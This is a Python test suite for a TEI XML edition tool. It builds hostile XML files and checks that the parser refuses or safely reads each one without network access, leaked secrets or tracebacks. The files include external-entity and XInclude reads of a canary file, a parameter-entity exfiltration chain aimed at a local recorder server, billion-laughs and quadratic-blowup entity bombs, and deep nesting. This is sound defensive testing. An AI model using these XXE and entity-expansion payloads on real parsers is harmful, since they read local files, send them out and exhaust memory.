"""Hostile files: each is refused (or read safely) with one clear line, in bounded time and
memory, never reading a local file or the network, never a traceback.

The files are generated per test in a temporary folder, next to a canary file whose secret
must never appear in any output, and a local HTTP server that must never be contacted.
"""

from __future__ import annotations

import http.server
import os
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
from typer.testing import CliRunner

from edition.problems import EditionError
from edition.sources import parse_source

ROOT = Path(__file__).resolve().parent.parent
SECRET = "CANARY-7f3a-do-not-leak"
TEI_NS = "http://www.tei-c.org/ns/1.0"


def tei(body: str = "<p>Pyongyang, 1957.</p>", prolog: str = "") -> str:
    return (f'{prolog}<TEI xmlns="{TEI_NS}"><teiHeader><fileDesc><titleStmt><title>T</title>'
            "</titleStmt><publicationStmt><p>P</p></publicationStmt><sourceDesc><p>S</p>"
            f"</sourceDesc></fileDesc></teiHeader><text><body>{body}</body></text></TEI>")


@dataclass(frozen=True)
class Env:
    folder: Path
    canary: Path
    url: str  # of the local server; any request to it is a failure


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[Env], bytes]
    rule: str | None  # None: the file is accepted
    read: str | None = None
    """None: refused with ``rule``; "error" or "warning": read, and ``rule`` reported
    with that severity (an external DTD, which is never loaded, is not refused)."""


def billion_laughs(_: Env) -> bytes:
    decls = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)
    ]
    return tei("<p>&lol9;</p>", f"<!DOCTYPE TEI [{''.join(decls)}]>").encode()


def quadratic_blowup(_: Env) -> bytes:
    decl = f'<!DOCTYPE TEI [<!ENTITY a "{"x" * 100_000}">]>'
    return tei(f"<p>{'&a;' * 50_000}</p>", decl).encode()


def parameter_exfiltration(env: Env) -> bytes:
    # the classic out-of-band read: a parameter entity reads the file, another sends it away
    decl = (f'<!DOCTYPE TEI [<!ENTITY % file SYSTEM "file://{env.canary}">'
            f"<!ENTITY % eval \"<!ENTITY &#x25; send SYSTEM '{env.url}?%file;'>\">"
            "%eval; %send;]>")
    return tei(prolog=decl).encode()


def deep_nesting(_: Env) -> bytes:
    depth = 100_000
    return tei("<p>" + "<hi>" * depth + "deep" + "</hi>" * depth + "</p>").encode()


CASES = [
    Case("external-entity-file", lambda env: tei(
        "<p>&leak;</p>", f'<!DOCTYPE TEI [<!ENTITY leak SYSTEM "file://{env.canary}">]>',
    ).encode(), "xml-entity"),
    Case("external-entity-url", lambda env: tei(
        "<p>&leak;</p>", f'<!DOCTYPE TEI [<!ENTITY leak SYSTEM "{env.url}">]>',
    ).encode(), "xml-entity"),
    Case("billion-laughs", billion_laughs, "xml-entity"),
    Case("quadratic-blowup", quadratic_blowup, "xml-entity"),
    Case("external-dtd-file", lambda env: tei(
        "<p>&leak;</p>", f'<!DOCTYPE TEI SYSTEM "file://{env.canary}">').encode(), "xml-entity",
        "error"),
    Case("external-dtd-url", lambda env: tei(
        prolog=f'<!DOCTYPE TEI PUBLIC "-//X//DTD X//EN" "{env.url}">').encode(), "xml-dtd",
        "warning"),
    # A TEI P4-style subset that only configures its DTD (a switch, a module named by
    # its public identifier and a web address): read with the DTD's warning, nothing
    # fetched (the module's address is the local server).
    Case("dtd-configuring-subset", lambda env: tei(
        prolog=f'<!DOCTYPE TEI PUBLIC "-//X//DTD X//EN" "{env.url}" [<!ENTITY % TEI.XML '
               f'"INCLUDE"><!ENTITY % mod PUBLIC "-//X//DTD Module//EN" "{env.url}mod.dtd">'
               ' %mod;]>').encode(), "xml-dtd", "warning"),
    Case("parameter-entity", lambda env: tei(
        prolog=f'<!DOCTYPE TEI [<!ENTITY % p SYSTEM "file://{env.canary}"> %p;]>',
    ).encode(), "xml-entity"),
    Case("parameter-entity-exfiltration", parameter_exfiltration, "xml-entity"),
    Case("xinclude-local-file", lambda env: tei(
        f'<p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{env.canary}" '
        'parse="text"/></p>').encode(), "xml-xinclude"),
    Case("xinclude-in-header", lambda env: tei().replace(
        "<sourceDesc>", f'<sourceDesc><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" '
        f'href="{env.canary}" parse="text"><xi:fallback><p>list</p></xi:fallback>'
        "</xi:include>").encode(), "xml-xinclude", "warning"),
    Case("undeclared-html-entity", lambda _: tei("<p>a&nbsp;b</p>").encode(), "xml-entity"),
    Case("nesting-100000-deep", deep_nesting, "xml-too-deep"),
    Case("invalid-utf8", lambda _: tei("<p>Kim \xff\xfe Il Sung</p>").encode("latin-1"),
         "xml-encoding"),
    Case("unknown-encoding", lambda _: tei(
        prolog='<?xml version="1.0" encoding="x-klingon"?>').encode(), "xml-encoding"),
    Case("nul-byte", lambda _: tei("<p>a\x00b</p>").encode(), "xml-syntax"),
    Case("empty-file", lambda _: b"", "xml-syntax"),
    Case("not-well-formed", lambda _: tei("<p>open").encode(), "xml-syntax"),
    Case("html-root", lambda _: b'<html xmlns="http://www.w3.org/1999/xhtml"><body/></html>',
         "not-tei"),
    Case("tei-without-namespace", lambda _: tei().replace(f' xmlns="{TEI_NS}"', "").encode(),
         "not-tei"),
    Case("tei-p4-with-dtd", lambda _: (
        b'<?xml version="1.0"?>\n<!DOCTYPE TEI.2 SYSTEM "http://www.tei-c.org/Lite/DTD/'
        b'teixlite.dtd" [<!ENTITY mdash "&#x2014;">]>\n<TEI.2><teiHeader/><text><body>'
        b"<p>a&mdash;b</p></body></text></TEI.2>"), "tei-p4"),
    Case("tei-p4-without-dtd", lambda _: (
        b"<TEI.2>\n<teiHeader><fileDesc/></teiHeader><text><body><p>P4</p></body></text>"
        b"</TEI.2>"), "tei-p4", "warning"),
    Case("byte-order-mark", lambda _: b"\xef\xbb\xbf" + tei().encode(), None),
    Case("utf16-with-bom", lambda _: tei(
        prolog='<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16"), None),
    Case("mixed-line-endings", lambda _: tei("<p>one\r\ntwo\rthree\nfour</p>").replace(
        "><", ">\r\n<").encode(), None),
    Case("plain-doctype", lambda _: tei(prolog="<!DOCTYPE TEI>").encode(), None),
]
REFUSED = [case for case in CASES if case.rule and case.read is None]
REPORTED = [case for case in CASES if case.read]


class _Recorder(http.server.BaseHTTPRequestHandler):
    requests: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - http.server's API
        self.requests.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b'<!ENTITY leak "from the network">')

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def server() -> Iterator[str]:
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{httpd.server_address[1]}/secret.dtd"
    httpd.shutdown()
    assert _Recorder.requests == [], "a hostile file made the parser contact the network"


@pytest.fixture(scope="module")
def env(tmp_path_factory: pytest.TempPathFactory, server: str) -> Env:
    folder = tmp_path_factory.mktemp("hostile")
    canary = folder / "canary.txt"
    canary.write_text(SECRET)
    return Env(folder, canary, server)


@pytest.fixture(scope="module")
def hostile_files(env: Env) -> dict[str, Path]:
    files = {}
    for case in CASES:
        path = env.folder / "files" / f"{case.name}.xml"
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(case.make(env))
        files[case.name] = path
    return files


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_the_parser_refuses_or_reads_each_hostile_file_in_bounded_time(
        case: Case, hostile_files: dict[str, Path]) -> None:
    path = hostile_files[case.name]
    start = time.perf_counter()
    if case.rule is None or case.read:
        source = parse_source(path)
        assert "".join(source.tree.getroot().itertext()).strip()
        assert SECRET not in "".join(source.tree.getroot().itertext())
        found = [p.severity for p in source.problems if p.rule == case.rule]
        assert found == ([case.read] if case.read else [])
    else:
        with pytest.raises(EditionError) as caught:
            parse_source(path)
        error = caught.value
        assert error.rule == case.rule
        assert str(error).startswith(f"{error.path}:{error.line}:{error.column}: error: ")
        assert error.path.endswith(f"{case.name}.xml")
        assert "\n" not in str(error)
        assert SECRET not in str(error)
    assert time.perf_counter() - start < 2.0


def test_mixed_line_endings_are_read_as_plain_line_feeds(hostile_files: dict[str, Path]) -> None:
    root = parse_source(hostile_files["mixed-line-endings"]).tree.getroot()
    assert "one\ntwo\nthree\nfour" in "".join(root.itertext())


def test_tei_p4_says_how_to_convert_whether_refused_or_read(
        hostile_files: dict[str, Path]) -> None:
    with pytest.raises(EditionError, match="TEI P4.*p4/from.xsl"):
        parse_source(hostile_files["tei-p4-with-dtd"])  # it declares an entity
    read = parse_source(hostile_files["tei-p4-without-dtd"])
    assert read.tree.getroot().tag == f"{{{TEI_NS}}}TEI"
    assert any("TEI P4" in p.message and "p4/from.xsl" in p.message for p in read.problems)


def test_an_undefined_entity_stays_visible_as_written(hostile_files: dict[str, Path]) -> None:
    source = parse_source(hostile_files["external-dtd-file"])
    assert "&leak;" in "".join(source.tree.getroot().itertext())
    (problem,) = [p for p in source.problems if p.rule == "xml-entity"]
    assert "&leak;" in problem.message and problem.line == 1


PEAK_SCRIPT = """
import resource, sys, time
from edition.problems import EditionError
from edition.xmlparse import parse_file
start = time.perf_counter()
try:
    parse_file(sys.argv[1])
    print("parsed")
except EditionError as error:
    print(error)
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024, time.perf_counter() - start)
"""
BASELINE_SCRIPT = "import resource, edition.xmlparse; print(resource.getrusage(0).ru_maxrss)"


def write_text_node(path: Path, megabytes: int) -> None:
    chunk = b"Juche " * (1024 * 1024 // 6)
    with path.open("wb") as handle:
        handle.write(f'<TEI xmlns="{TEI_NS}"><text><body><p>'.encode())
        for _ in range(megabytes):
            handle.write(chunk)
        handle.write(b"</p></body></text></TEI>")


@pytest.mark.parametrize(("megabytes", "rule"), [(200, "xml-too-large"), (50, "xml-too-large")],
                         ids=["200MB-refused-by-size", "50MB-refused-while-streaming"])
def test_a_huge_text_node_is_refused_quickly_in_little_memory(
        tmp_path: Path, megabytes: int, rule: str) -> None:
    """200 MB is over the file limit (refused unread); 50 MB is under it but its text node
    is over libxml2's 10 MB limit, so reading stops after a few chunks."""
    path = tmp_path / "huge.xml"
    write_text_node(path, megabytes)
    baseline = int(subprocess.run([sys.executable, "-c", BASELINE_SCRIPT], capture_output=True,
                                  text=True, check=True, cwd=ROOT).stdout) // 1024
    done = subprocess.run([sys.executable, "-c", PEAK_SCRIPT, str(path)], capture_output=True,
                          text=True, timeout=30, cwd=ROOT)
    message, numbers = done.stdout.strip().splitlines()
    peak_mb, seconds = int(numbers.split()[0]), float(numbers.split()[1])
    assert message.endswith(f"[{rule}]") and "huge.xml" in message
    assert seconds < 2.0
    assert peak_mb - baseline < 40, f"peak {peak_mb} MB over a baseline of {baseline} MB"


def test_a_named_pipe_is_refused_without_waiting_for_a_writer(tmp_path: Path) -> None:
    fifo = tmp_path / "pipe.xml"
    os.mkfifo(fifo)
    with pytest.raises(EditionError, match="not a regular file"):
        parse_source(fifo)


# --- through the real command line -------------------------------------------------------




def assert_clean_refusal(output: str, exit_code: int, case: Case, path: Path) -> None:
    assert "Traceback" not in output and "[internal]" not in output
    assert SECRET not in output
    if case.rule is None:
        assert "[xml-" not in output and "[not-tei]" not in output
        return
    if case.read:
        lines = [line for line in output.splitlines() if f"[{case.rule}]" in line]
        assert len(lines) == 1 and f": {case.read}: " in lines[0] and path.name in lines[0]
        return
    assert exit_code == 1, output
    lines = [line for line in output.splitlines() if f"[{case.rule}]" in line]
    assert lines, output
    assert path.name in lines[0] and ": error: " in lines[0]


@pytest.mark.parametrize("case", CASES, ids=lambda case: case.name)
def test_edition_validate_reports_each_hostile_file_in_one_line(
        case: Case, hostile_files: dict[str, Path]) -> None:
    from edition.cli import app

    path = hostile_files[case.name]
    result = CliRunner().invoke(app, ["validate", str(path)])
    assert_clean_refusal(result.output + (result.stderr if result.stderr_bytes else ""),
                         result.exit_code, case, path)


DANGEROUS = ["external-entity-file", "parameter-entity-exfiltration", "billion-laughs",
             "quadratic-blowup", "nesting-100000-deep", "invalid-utf8", "tei-p4-with-dtd",
             "xinclude-local-file"]


@pytest.mark.parametrize("name", DANGEROUS)
def test_python_m_edition_validate_refuses_dangerous_files_in_a_subprocess(
        name: str, hostile_files: dict[str, Path]) -> None:
    case = next(case for case in CASES if case.name == name)
    path = hostile_files[name]
    done = subprocess.run([sys.executable, "-m", "edition", "validate", str(path)],
                          capture_output=True, text=True, timeout=60, cwd=ROOT)
    assert_clean_refusal(done.stdout + done.stderr, done.returncode, case, path)


def test_validating_the_whole_hostile_folder_reports_every_file(
        hostile_files: dict[str, Path]) -> None:
    folder = next(iter(hostile_files.values())).parent
    done = subprocess.run([sys.executable, "-m", "edition", "validate", str(folder)],
                          capture_output=True, text=True, timeout=60, cwd=ROOT)
    output = done.stdout + done.stderr
    assert done.returncode == 1
    assert "Traceback" not in output and SECRET not in output
    for case in REFUSED + REPORTED:
        assert any(f"{case.name}.xml:" in line and f"[{case.rule}]" in line
                   for line in output.splitlines()), case.name
